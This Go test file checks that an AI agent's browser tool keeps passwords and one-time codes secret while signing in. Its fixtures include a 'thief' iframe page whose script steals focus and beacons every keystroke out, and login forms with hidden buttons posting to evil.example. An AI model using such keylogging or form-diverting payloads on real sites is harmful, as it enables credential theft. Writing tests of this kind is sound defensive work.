package browser_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"hotcell/internal/cell/browser"
)

// What is in a field cannot be asked for sign by sign.
func TestWhatAFieldHoldsCannotBeGuessed(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	home := w.page("/", `<p>Hello there</p><label>Password <input type=password id=p value="prefilled-7"></label><textarea autocomplete=current-password>noted-8</textarea>
		<button onclick="p.type='text'">Show</button>`)
	s := w.ok("browser_navigate", "url", home)
	w.ok("browser_wait_for", "text", "Hello there")
	guess := func() {
		for _, text := range []string{"pre", "prefilled", "prefilled-7", "noted-8", "•"} {
			if out := w.call("browser_wait_for", "text", text, "time", 0.2); !out.Error {
				t.Errorf("that %q is in a field is told", text)
			}
			if out := w.call("browser_wait_for", "textGone", text, "time", 0.2); out.Error {
				t.Errorf("that %q is in a field is told: %s", text, out.Text)
			}
		}
	}
	guess()
	w.ok("browser_click", "ref", w.ref(s, `"Show"`))
	guess()
}

func TestWhatTheGuardHoldsCannotBeGuessed(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.logins[0].Fill = true
	w.mux.HandleFunc("POST /session", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(rw, "<h1>Welcome, Ada</h1><p>you are "+r.FormValue("password")+"!")
	})
	w.ok("browser_sign_in", "url", w.page("/login", `<form method=post action=/session><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`))
	w.ok("browser_wait_for", "text", "you are")
	if out := w.call("browser_wait_for", "text", "you are "+truePassword[:3], "time", 0.2); !out.Error {
		t.Error("the password can be guessed sign by sign")
	}
}

// thief is another site whose page takes the keyboard whenever it can.
type thief struct {
	*httptest.Server
	mu  sync.Mutex
	got strings.Builder
}

func openThief(t *testing.T) *thief {
	t.Helper()
	f := &thief{}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /", func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(rw, `<input aria-label=Booty><input id=j><script>
			const all = [...document.querySelectorAll('input')], tell = text => navigator.sendBeacon('/got', text)
			for (const i of all) { i.oninput = () => tell(i.value); i.onkeydown = e => tell(e.key) }
			let n = 0; const take = () => { window.focus(); document.activeElement.blur(); all[n++ % 2].focus() }
			setInterval(take, 1); addEventListener('blur', take)</script>`)
	})
	mux.HandleFunc("POST /got", func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		f.mu.Lock()
		defer f.mu.Unlock()
		f.got.Write(body)
		f.got.WriteByte('\n')
	})
	f.Server = httptest.NewServer(mux)
	t.Cleanup(f.Close)
	f.URL = strings.Replace(f.URL, "127.0.0.1", "localhost", 1)
	return f
}

func (f *thief) stole() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.got.String()
}

// A frame of another site that takes the focus over and over gets nothing.
func TestAFrameCannotTakeWhatIsTyped(t *testing.T) {
	t.Parallel()
	for name, html := range map[string]string{
		"a form":    `<form method=post action=/session><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`,
		"six boxes": `<form method=post action=/session id=f><input type=hidden name=code id=all><div id=d></div></form><script>for (let i = 0; i < 6; i++) { const b = document.createElement('input'); b.maxLength = 1; b.ariaLabel = 'Digit ' + (i + 1); d.append(b); b.oninput = () => { all.value = [...d.children].map(x => x.value).join(''); if (all.value.length == 6) f.submit() } }</script>`,
	} {
		for _, fill := range []bool{false, true} {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				w, f := open(t, func(c *browser.Config) { c.Evaluate = false }), openThief(t)
				w.logins[0].Fill = fill
				w.page("/account", account)
				w.accept("/session", "/account")
				s := w.ok("browser_navigate", "url", w.page("/login", html+`<iframe src="`+f.URL+`/"></iframe>`))
				// The agent is the thief's friend.
				w.ok("browser_type", "ref", w.ref(s, `"Booty"`), "text", "hello")
				s = w.call("browser_sign_in").Text
				got := f.stole()
				w.mu.Lock()
				armed := w.armed
				w.mu.Unlock()
				for _, secret := range []string{truePassword, trueCode, armed.Password, armed.Code} {
					if secret != "" && strings.Contains(strings.ReplaceAll(got, "\n", ""), secret) {
						t.Errorf("another site got what was typed: %q", got)
					}
				}
				if strings.ContainsAny(got, "0123456789") {
					t.Errorf("another site got digits: %q", got)
				}
				if !strings.Contains(s, "signed_in") {
					t.Error(s)
				}
			})
		}
	}
}

// A login goes into forms to sign in with, and into no other that has a field for
// a password.
func TestOnlyFormsToSignInWithAreFilledIn(t *testing.T) {
	t.Parallel()
	const lone = `<form method=post action=/session><label>Password <input type=password name=password></label><button>Save</button></form>`
	for name, c := range map[string]struct{ path, html, want string }{
		"a password alone":               {"/keep", lone, "does not say whose"},
		"a secret of a hook":             {"/hooks", `<p>ada</p><form method=post action=/session><label>Webhook secret <input type=password name=password></label><button>Save</button></form>`, "another one"},
		"a mail server":                  {"/settings/smtp", `<form method=post action=/session><input name=user><input type=password name=password><button>Save</button></form>`, "another one"},
		"settings with a name":           {"/settings/mailbox", `<form method=post action=/session><label>User name <input name=user></label><input type=password name=password><button>Save</button></form>`, "settings"},
		"of somebody who is in":          {"/keep", `<p>ada</p><a href=/out>Sign out</a>` + lone, "signed in already"},
		"its button sends elsewhere":     {"/login", `<form method=post action=/session><button style="display:none" formaction="https://evil.example/">x</button><input name=user><input type=password name=password><button>Sign in</button></form>`, "another site"},
		"a button outside the form does": {"/login", `<button form=f formaction="https://evil.example/"></button><form id=f method=post action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`, "another site"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := open(t, nil)
			w.logins[0].Fill = strings.Contains(c.html, "formaction") // in the other mode, that button is not pressed
			w.mux.HandleFunc("POST /session", func(http.ResponseWriter, *http.Request) { t.Error("it was sent") })
			if out := w.call("browser_sign_in", "url", w.page(c.path, c.html)); !strings.Contains(out.Text, c.want) {
				t.Error(out.Text)
			}
			if strings.Contains(c.html, "Sign out") {
				if out := w.call("browser_sign_in", "again", true); !out.Error || !strings.Contains(out.Text, "current password") {
					t.Error(out.Text)
				}
			}
			if w.armed.Password != "" {
				t.Error("a login was armed")
			}
		})
	}
}

// What asks for the password of somebody it names, or for the current one, is
// answered.
func TestAPasswordAlone(t *testing.T) {
	t.Parallel()
	for name, html := range map[string]string{
		"shown":    `<p>Welcome back, Ada</p><form method=post action=/session><input type=password name=password><button>Sign in</button></form>`,
		"held":     `<form method=post action=/session><input name=user value=ada readonly><input type=password name=password><button>Sign in</button></form>`,
		"declared": `<form method=post action=/session><input type=password name=password autocomplete=current-password><button>Sign in</button></form>`,
		"again":    `<a href=/out>Log out</a><form method=post action=/session><input type=password name=password autocomplete=current-password><button>Confirm</button></form>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := open(t, nil)
			w.page("/account", account)
			w.accept("/session", "/account")
			w.ok("browser_navigate", "url", w.page("/login", html))
			if s := w.ok("browser_sign_in", "again", name == "again"); !strings.Contains(s, "signed_in") || !strings.Contains(s, "Welcome, Ada") {
				t.Error(s)
			}
		})
	}
}

// In fill mode the password comes into no address.
func TestAPasswordIsPutIntoNoAddress(t *testing.T) {
	t.Parallel()
	for name, html := range map[string]string{
		"no method":               `<form action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`,
		"the method of the form":  `<form method=get action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`,
		"a method that is none":   `<form method=send action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`,
		"the button's":            `<form method=post action=/session><input name=user><input type=password name=password><button formmethod=get>Sign in</button></form>`,
		"that of a hidden button": `<form method=post action=/session><button formmethod=get style="display:none"></button><input name=user><input type=password name=password><button>Sign in</button></form>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := open(t, nil)
			w.logins[0].Fill = true
			w.mux.HandleFunc("/session", func(rw http.ResponseWriter, r *http.Request) {
				if r.URL.RawQuery != "" {
					t.Errorf("it came in the address %s", r.URL)
				}
				_, _ = io.WriteString(rw, "ok")
			})
			w.call("browser_sign_in", "url", w.page("/login", html))
		})
	}
}

// Keys are no way into a field for a secret, nor out of it.
func TestKeysAndFieldsForSecrets(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	home := w.page("/", `<label>Password <input type=password id=p value="prefilled-7"></label><label>Notes <input id=n></label><div id=h></div>
		<button onmousedown="event.preventDefault(); p.type='text'">Show</button><button onclick="n.value=p.value.length+'/'+p.value.includes('x')">Look</button>
		<script>const s = h.attachShadow({mode: 'closed'}); s.innerHTML = '<label>Deep <input type=password value="hidden-8"></label>'</script>`)
	s := w.ok("browser_navigate", "url", home)
	notes := func() string {
		s = w.ok("browser_click", "ref", w.ref(w.ok("browser_snapshot"), `"Notes"`))
		return w.ok("browser_press_key", "key", "Control+v") + w.ok("browser_click", "ref", w.ref(s, `"Look"`))
	}
	for _, name := range []string{`"Password"`, `"Deep"`} {
		w.ok("browser_click", "ref", w.ref(w.ok("browser_snapshot"), name), "doubleClick", true)
		for _, key := range []string{"x", "Control+a", "Control+c", "Control+x", "Backspace", "Shift+ArrowLeft"} {
			if out := w.call("browser_press_key", "key", key); !out.Error || !strings.Contains(out.Text, "secret") {
				t.Errorf("%s takes the key %s: %s", name, key, out.Text)
			}
		}
		if out := w.call("browser_drag", "startRef", w.ref(w.ok("browser_snapshot"), name), "endRef", w.ref(w.ok("browser_snapshot"), `"Notes"`)); !out.Error {
			t.Errorf("it is dragged: %s", out.Text)
		}
	}
	w.ok("browser_click", "ref", w.ref(s, `"Password"`), "doubleClick", true)
	w.ok("browser_click", "ref", w.ref(s, `"Show"`))
	if out := w.call("browser_press_key", "key", "Control+c"); !out.Error {
		t.Errorf("once it is shown, it is copied: %s", out.Text)
	}
	if s = notes(); strings.Contains(s, "prefilled") || !strings.Contains(s, "11/false") {
		t.Error(s)
	}
	w.ok("browser_press_key", "key", "Tab")
}
